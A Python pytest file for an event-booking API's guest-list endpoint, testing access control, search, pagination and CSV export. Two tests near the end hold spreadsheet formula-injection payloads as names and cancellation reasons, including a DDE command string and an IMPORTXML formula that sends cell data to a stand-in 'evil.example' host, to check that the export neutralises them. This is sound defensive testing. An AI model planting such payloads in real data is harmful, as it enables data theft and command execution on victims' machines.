"""GET /events/{id}/bookings: the guest list, as JSON pages or as a CSV file of every row."""

import asyncio
import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from fastapi import FastAPI
from httpx import AsyncClient

from boxoffice.bookings.codes import ALPHABET
from boxoffice.models import Booking, BookingStatus
from tests.bookings.helpers import (
    Scene,
    booked,
    cancel_booking,
    guest_list,
    guest_list_csv,
    many_accounts,
    published_scene,
)
from tests.factories import assert_problem, create_account, create_admin, create_published_event

CSV_HEADER = [
    "code",
    "status",
    "holder_name",
    "holder_email",
    "ticket_type",
    "quantity",
    "unit_price",
    "total_price",
    "currency",
    "created_at",
    "cancelled_at",
    "cancellation_reason",
]


def readable_code(number: int) -> str:
    """A distinct, valid booking code for each number."""
    symbols = "".join(ALPHABET[(number >> (5 * i)) % 32] for i in range(8))
    return f"{symbols[:4]}-{symbols[4:]}"


def parse_csv(text: str) -> list[dict[str, str]]:
    reader = csv.reader(io.StringIO(text, newline=""))
    header = next(reader)
    assert header == CSV_HEADER
    return [dict(zip(header, row, strict=True)) for row in reader]


async def scene_with_guests(client: AsyncClient, *names: str) -> tuple[Scene, list[dict[str, object]]]:
    """A published event and one booking per holder name, each by its own account."""
    scene = await published_scene(client)
    accounts = [scene.attendee, *await many_accounts(client, len(names) - 1)]
    bookings = [
        await booked(client, account, scene.event_id, holder_name=name)
        for account, name in zip(accounts, names, strict=True)
    ]
    return scene, bookings


async def test_the_organizer_sees_every_booking_of_their_event(client: AsyncClient) -> None:
    scene, bookings = await scene_with_guests(client, "Ann", "Bob", "Cy")
    await cancel_booking(client, scene.attendee, str(bookings[0]["id"]))
    other = await create_published_event(client, scene.organizer, title="Elsewhere")
    await booked(client, scene.attendee, other["id"])
    response = await guest_list(client, scene.organizer, scene.event_id)
    assert response.status_code == 200, response.text
    page = response.json()
    assert {item["id"] for item in page["items"]} == {b["id"] for b in bookings}
    assert (page["total"], page["limit"], page["offset"]) == (3, 20, 0)


async def test_an_admin_sees_the_guest_list(app: FastAPI, client: AsyncClient) -> None:
    scene, _ = await scene_with_guests(client, "Ann")
    admin = await create_admin(app, client)
    response = await guest_list(client, admin, scene.event_id)
    assert response.status_code == 200
    assert response.json()["total"] == 1


@pytest.mark.parametrize("who", ["guest", "attendee", "organizer"])
async def test_anyone_else_gets_not_found_for_the_guest_list(client: AsyncClient, who: str) -> None:
    scene, _ = await scene_with_guests(client, "Ann")
    caller = scene.attendee if who == "guest" else await create_account(client, role=who)
    assert_problem(await guest_list(client, caller, scene.event_id), 404, "not_found")
    assert_problem(await guest_list_csv(client, caller, scene.event_id), 404, "not_found")


async def test_the_guest_list_of_an_unknown_event_is_not_found(client: AsyncClient) -> None:
    organizer = await create_account(client, role="organizer")
    assert_problem(await guest_list(client, organizer, str(uuid.uuid4())), 404, "not_found")


async def test_the_guest_list_needs_a_token(client: AsyncClient) -> None:
    scene = await published_scene(client)
    response = await client.get(f"/api/v1/events/{scene.event_id}/bookings")
    assert_problem(response, 401, "not_authenticated")


async def test_the_guest_list_filters_by_status(client: AsyncClient) -> None:
    scene, bookings = await scene_with_guests(client, "Ann", "Bob", "Cy")
    await cancel_booking(client, scene.attendee, str(bookings[0]["id"]))
    cancelled = (await guest_list(client, scene.organizer, scene.event_id, status="cancelled")).json()
    confirmed = (await guest_list(client, scene.organizer, scene.event_id, status="confirmed")).json()
    assert [item["id"] for item in cancelled["items"]] == [bookings[0]["id"]]
    assert {item["id"] for item in confirmed["items"]} == {bookings[1]["id"], bookings[2]["id"]}
    assert (cancelled["total"], confirmed["total"]) == (1, 2)


async def test_q_matches_the_holder_name_case_insensitively(client: AsyncClient) -> None:
    scene, bookings = await scene_with_guests(client, "Ada Lovelace", "Grace Hopper")
    page = (await guest_list(client, scene.organizer, scene.event_id, q="LOVE")).json()
    assert [item["id"] for item in page["items"]] == [bookings[0]["id"]]
    assert page["total"] == 1


async def test_q_matches_the_holder_email(client: AsyncClient) -> None:
    scene = await published_scene(client)
    neighbour = await create_account(client)
    mine = await booked(client, scene.attendee, scene.event_id, holder_email="special.guest@example.org")
    await booked(client, neighbour, scene.event_id)
    page = (await guest_list(client, scene.organizer, scene.event_id, q="Special.Guest@")).json()
    assert [item["id"] for item in page["items"]] == [mine["id"]]


async def test_q_matches_the_code_in_either_case(client: AsyncClient) -> None:
    scene, bookings = await scene_with_guests(client, "Ann", "Bob")
    code = str(bookings[1]["code"])
    for query in (code, code.lower(), code[:6]):
        page = (await guest_list(client, scene.organizer, scene.event_id, q=query)).json()
        assert bookings[1]["id"] in [item["id"] for item in page["items"]], query
    exact = (await guest_list(client, scene.organizer, scene.event_id, q=code)).json()
    assert [item["id"] for item in exact["items"]] == [bookings[1]["id"]]


async def test_q_treats_percent_and_underscore_literally(client: AsyncClient) -> None:
    scene, bookings = await scene_with_guests(client, "100% Fan", "Plain Name", "snake_case", "snakeXcase")
    percent = (await guest_list(client, scene.organizer, scene.event_id, q="%")).json()
    assert [item["id"] for item in percent["items"]] == [bookings[0]["id"]]
    underscore = (await guest_list(client, scene.organizer, scene.event_id, q="e_c")).json()
    assert [item["id"] for item in underscore["items"]] == [bookings[2]["id"]]


async def test_q_that_matches_nothing_gives_an_empty_page(client: AsyncClient) -> None:
    scene, _ = await scene_with_guests(client, "Ann")
    page = (await guest_list(client, scene.organizer, scene.event_id, q="zzz-nobody")).json()
    assert (page["items"], page["total"]) == ([], 0)


async def test_the_guest_list_is_paginated(client: AsyncClient) -> None:
    scene, bookings = await scene_with_guests(client, "A", "B", "C", "D", "E")
    pages = [
        (await guest_list(client, scene.organizer, scene.event_id, limit=2, offset=offset)).json()
        for offset in (0, 2, 4)
    ]
    assert [len(page["items"]) for page in pages] == [2, 2, 1]
    assert all(page["total"] == 5 for page in pages)
    assert sorted(item["id"] for page in pages for item in page["items"]) == sorted(
        str(b["id"]) for b in bookings
    )


@pytest.mark.parametrize("params", [{"limit": 101}, {"limit": 0}, {"offset": -1}, {"status": "pending"}])
async def test_bad_guest_list_parameters_are_rejected(client: AsyncClient, params: dict[str, object]) -> None:
    scene = await published_scene(client)
    assert_problem(
        await guest_list(client, scene.organizer, scene.event_id, **params), 422, "validation_error"
    )


async def test_the_csv_has_a_header_row_and_one_row_per_booking(client: AsyncClient) -> None:
    scene, bookings = await scene_with_guests(client, "Ann", "Bob")
    await cancel_booking(client, scene.attendee, str(bookings[0]["id"]))
    response = await guest_list_csv(client, scene.organizer, scene.event_id)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    rows = {row["code"]: row for row in parse_csv(response.text)}
    assert set(rows) == {b["code"] for b in bookings}
    first, second = rows[str(bookings[0]["code"])], rows[str(bookings[1]["code"])]
    assert (first["status"], first["holder_name"]) == ("cancelled", "Ann")
    assert first["cancelled_at"]
    assert first["cancellation_reason"]
    assert (second["status"], second["holder_name"], second["quantity"]) == ("confirmed", "Bob", "1")
    assert (second["unit_price"], second["total_price"], second["currency"]) == ("0.00", "0.00", "EUR")
    assert second["holder_email"] == bookings[1]["holder_email"]
    assert second["cancelled_at"] == ""


async def test_the_csv_names_ticket_types_and_writes_instants_as_the_json_does(client: AsyncClient) -> None:
    scene, bookings = await scene_with_guests(client, "Ann")
    await cancel_booking(client, scene.attendee, str(bookings[0]["id"]))
    (row,) = parse_csv((await guest_list_csv(client, scene.organizer, scene.event_id)).text)
    (item,) = (await guest_list(client, scene.organizer, scene.event_id)).json()["items"]
    assert row["ticket_type"] == "General admission"
    assert (row["created_at"], row["cancelled_at"]) == (item["created_at"], item["cancelled_at"])
    assert row["created_at"].endswith("Z")


async def test_format_csv_asks_for_the_csv_without_an_accept_header(client: AsyncClient) -> None:
    scene, bookings = await scene_with_guests(client, "Ann")
    response = await client.get(
        f"/api/v1/events/{scene.event_id}/bookings", params={"format": "csv"}, headers=scene.organizer.headers
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert [row["code"] for row in parse_csv(response.text)] == [bookings[0]["code"]]
    as_json = await client.get(
        f"/api/v1/events/{scene.event_id}/bookings",
        params={"format": "json"},
        headers={**scene.organizer.headers, "Accept": "text/csv"},
    )
    assert as_json.json()["total"] == 1
    assert_problem(
        await guest_list(client, scene.organizer, scene.event_id, format="xlsx"), 422, "validation_error"
    )


async def test_the_csv_of_an_event_without_bookings_is_just_the_header(client: AsyncClient) -> None:
    scene = await published_scene(client)
    response = await guest_list_csv(client, scene.organizer, scene.event_id)
    assert response.status_code == 200
    assert parse_csv(response.text) == []


async def test_the_csv_holds_every_row_beyond_one_page(client: AsyncClient) -> None:
    scene = await published_scene(client, capacity=200)
    guests = await many_accounts(client, 120)
    codes: set[str] = set()
    for start in range(0, len(guests), 20):
        created = await asyncio.gather(
            *(booked(client, guest, scene.event_id) for guest in guests[start : start + 20])
        )
        codes |= {str(booking["code"]) for booking in created}
    assert len(codes) == 120
    response = await guest_list_csv(client, scene.organizer, scene.event_id)
    assert response.status_code == 200, response.text
    rows = parse_csv(response.text)
    assert len(rows) == 120
    assert {row["code"] for row in rows} == codes
    paged = (await guest_list(client, scene.organizer, scene.event_id, limit=100)).json()
    assert (len(paged["items"]), paged["total"]) == (100, 120)


async def test_the_csv_honours_the_filters(client: AsyncClient) -> None:
    scene, bookings = await scene_with_guests(client, "Ann", "Bob", "Bobby")
    await cancel_booking(client, scene.attendee, str(bookings[0]["id"]))
    by_status = parse_csv(
        (await guest_list_csv(client, scene.organizer, scene.event_id, status="cancelled")).text
    )
    assert [row["code"] for row in by_status] == [bookings[0]["code"]]
    by_name = parse_csv((await guest_list_csv(client, scene.organizer, scene.event_id, q="bob")).text)
    assert {row["code"] for row in by_name} == {bookings[1]["code"], bookings[2]["code"]}


async def test_the_csv_neutralises_spreadsheet_formulas(client: AsyncClient) -> None:
    dangerous = ['=HYPERLINK("http://evil.example","click")', "+cmd|' /C calc'!A0", "-1", "@SUM(A1)"]
    scene, _ = await scene_with_guests(client, *dangerous, "Harmless Name")
    rows = parse_csv((await guest_list_csv(client, scene.organizer, scene.event_id)).text)
    names = {row["holder_name"] for row in rows}
    assert names == {"'" + name for name in dangerous} | {"Harmless Name"}


async def test_the_json_guest_list_keeps_names_as_they_were_given(client: AsyncClient) -> None:
    scene, _ = await scene_with_guests(client, "=1+1")
    page = (await guest_list(client, scene.organizer, scene.event_id)).json()
    assert page["items"][0]["holder_name"] == "=1+1"


async def test_the_csv_streams_every_row_across_many_chunks(app: FastAPI, client: AsyncClient) -> None:
    """Many bookings stamped with the same instant: the export must not lose or repeat any of them."""
    scene = await published_scene(client)
    ticket_type_id = uuid.UUID(scene.event["ticket_types"][0]["id"])
    moment = datetime.now(UTC) - timedelta(hours=1)
    codes = [readable_code(n) for n in range(1234)]
    async with app.state.database.unit_of_work() as session:
        session.add_all(
            Booking(
                code=code,
                event_id=uuid.UUID(scene.event_id),
                ticket_type_id=ticket_type_id,
                user_id=uuid.UUID(scene.attendee.id),
                quantity=1,
                status=BookingStatus.CANCELLED,
                active_key=None,
                holder_name="Bulk Guest",
                holder_email=scene.attendee.email,
                unit_price=Decimal("0.00"),
                total_price=Decimal("0.00"),
                currency="EUR",
                created_at=moment,
                updated_at=moment,
                cancelled_at=moment,
                cancellation_reason="Imported",
            )
            for code in codes
        )
    rows = parse_csv((await guest_list_csv(client, scene.organizer, scene.event_id)).text)
    assert len(rows) == len(codes)
    assert sorted(row["code"] for row in rows) == sorted(codes)


async def test_the_csv_neutralises_a_formula_in_the_cancellation_reason(client: AsyncClient) -> None:
    scene, _ = await scene_with_guests(client, "Ann")
    cancelled = await client.post(
        f"/api/v1/events/{scene.event_id}/cancel",
        json={"reason": '=IMPORTXML(CONCAT("http://evil.example/?",A1))'},
        headers=scene.organizer.headers,
    )
    assert cancelled.status_code == 200, cancelled.text
    rows = parse_csv((await guest_list_csv(client, scene.organizer, scene.event_id)).text)
    assert rows[0]["cancellation_reason"].startswith("'")
    assert not rows[0]["cancellation_reason"].startswith(("=", "+", "-", "@"))


async def test_q_treats_a_backslash_literally(client: AsyncClient) -> None:
    scene, bookings = await scene_with_guests(client, "Back\\slash", "Backslash")
    page = (await guest_list(client, scene.organizer, scene.event_id, q="k\\s")).json()
    assert [item["id"] for item in page["items"]] == [bookings[0]["id"]]
